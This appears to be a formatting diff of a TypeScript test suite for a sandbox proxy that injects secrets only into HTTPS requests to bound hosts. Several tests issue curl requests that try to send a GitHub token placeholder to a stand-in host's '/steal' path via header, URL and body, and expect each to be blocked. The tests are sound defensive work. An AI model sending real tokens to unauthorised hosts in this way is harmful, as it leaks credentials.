@@ -18,13 +18,18 @@ let sandboxId: string;
 
 before(async () => {
   up = await startUpstreams();
-  d = await startTestDaemon({ upstreamCa: [up.caPem], resolve: { 'api.test': '127.0.0.1', 'other.test': '127.0.0.1' } });
+  d = await startTestDaemon({
+    upstreamCa: [up.caPem],
+    resolve: { 'api.test': '127.0.0.1', 'other.test': '127.0.0.1' },
+  });
   await d.client.call('PUT /v1/secrets/:name', {
     params: { name: 'GH_TOKEN' },
     body: { value: VALUE, hosts: ['api.test'], inject: 'bearer' },
   });
   const created = await d.listener(
-    policyYaml(`- match: api.test\n  action: allow\n- match: other.test\n  action: allow\n- match: 127.0.0.1\n  action: allow`),
+    policyYaml(
+      `- match: api.test\n  action: allow\n- match: other.test\n  action: allow\n- match: 127.0.0.1\n  action: allow`,
+    ),
     { secrets: ['GH_TOKEN'] },
   );
   env = created.env;
@@ -41,33 +46,59 @@ test('the agent gets a placeholder, never the value', () => {
 });
 
 test('the bound upstream receives the real value in place of the placeholder', async () => {
-  const r = await curl(env, ['-H', `Authorization: Bearer ${env.GH_TOKEN}`, `https://api.test:${up.httpsPort}/bytes/16`]);
+  const r = await curl(env, [
+    '-H',
+    `Authorization: Bearer ${env.GH_TOKEN}`,
+    `https://api.test:${up.httpsPort}/bytes/16`,
+  ]);
   assert.equal(r.status, 200, r.stderr);
   const got = up.received.findLast((x) => x.url === '/bytes/16');
   assert.equal(got?.headers.authorization, `Bearer ${VALUE}`);
   assert.ok(!r.body.includes(VALUE) && !r.headers.includes(VALUE), 'the client never sees the value');
-  await until('injected event', () => d.events.find((e) => e.type === 'secret.injected' && e.sandboxId === sandboxId));
+  await until('injected event', () =>
+    d.events.find((e) => e.type === 'secret.injected' && e.sandboxId === sandboxId),
+  );
 });
 
 test('a placeholder sent to an unbound host is blocked (header, URL and body) and reported', async () => {
   const before = up.received.length;
-  const inHeader = await curl(env, ['-H', `X-Token: ${env.GH_TOKEN}`, `https://other.test:${up.httpsPort}/steal`]);
+  const inHeader = await curl(env, [
+    '-H',
+    `X-Token: ${env.GH_TOKEN}`,
+    `https://other.test:${up.httpsPort}/steal`,
+  ]);
   assert.equal(inHeader.status, 403, inHeader.stderr);
-  assert.match(inHeader.body, /placeholder of secret GH_TOKEN \(in x-token\), which is not bound to other\.test/);
+  assert.match(
+    inHeader.body,
+    /placeholder of secret GH_TOKEN \(in x-token\), which is not bound to other\.test/,
+  );
   const inUrl = await curl(env, [`https://other.test:${up.httpsPort}/steal?t=${env.GH_TOKEN}`]);
   assert.equal(inUrl.status, 403);
-  const inBody = await curl(env, ['--data-binary', `token=${env.GH_TOKEN}`, `https://other.test:${up.httpsPort}/steal`]);
+  const inBody = await curl(env, [
+    '--data-binary',
+    `token=${env.GH_TOKEN}`,
+    `https://other.test:${up.httpsPort}/steal`,
+  ]);
   assert.equal(inBody.status, 403);
   assert.match(inBody.body, /request body carries the placeholder of secret GH_TOKEN/);
-  assert.equal(up.received.slice(before).filter((x) => x.url.startsWith('/steal')).length, 0, 'nothing reached the upstream');
+  assert.equal(
+    up.received.slice(before).filter((x) => x.url.startsWith('/steal')).length,
+    0,
+    'nothing reached the upstream',
+  );
   const blocked = d.events.filter(
-    (e): e is SecretExfiltrationBlockedEvent => e.type === 'secret.exfiltration_blocked' && e.sandboxId === sandboxId,
+    (e): e is SecretExfiltrationBlockedEvent =>
+      e.type === 'secret.exfiltration_blocked' && e.sandboxId === sandboxId,
   );
   assert.deepEqual(blocked.map((e) => e.where).sort(), ['body', 'url', 'x-token']);
 });
 
 test('over plain HTTP a placeholder is never swapped: the request is blocked', async () => {
-  const r = await curl(env, ['-H', `Authorization: Bearer ${env.GH_TOKEN}`, `http://api.test:${up.httpPort}/plain`]);
+  const r = await curl(env, [
+    '-H',
+    `Authorization: Bearer ${env.GH_TOKEN}`,
+    `http://api.test:${up.httpPort}/plain`,
+  ]);
   assert.equal(r.status, 403);
   assert.match(r.body, /secrets are only injected into HTTPS requests/);
 });
